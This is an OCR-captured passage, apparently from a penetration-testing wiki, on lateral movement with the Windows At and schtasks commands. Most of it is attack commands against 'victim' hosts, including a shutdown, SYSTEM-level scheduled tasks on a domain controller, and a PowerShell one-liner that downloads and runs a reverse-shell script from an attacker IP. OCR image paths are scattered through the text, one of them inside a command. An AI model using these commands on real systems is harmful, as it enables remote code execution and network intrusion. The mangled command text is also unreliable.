AtExec / SchtasksExec

How Does it works

At allows to schedule tasks in hosts where you know username/(password/Hash). So, you can use it to execute commands in other hosts and get the output.

At \\victim 11:00:00PM shutdown -r

Using schtasks you need first to create the task and then call it:

schtasks /create /n <TASK_NAME> /tr C:\path\executable.exe /sc once /st 00:00 /S <VICTIM> /RU System
schtasks /run /tn <TASK_NAME> /S <VICTIM>
schtasks /create /S dcorp-dc.domain.local /SC Weekely /RU "NT Authority\SYSTEM" /TN"MyNewtask" /TR "powershell.exe -c 'iex (New-Object Net.WebClient).DownloadString(''http://172.16.100.X/InvokePowerShellTcp.ps1''')'"
schtasks /run /tn "MyNewtask" /S dcorp-dc.domain.local

More information about the use ofschtasks with silver tickets here.

Last updated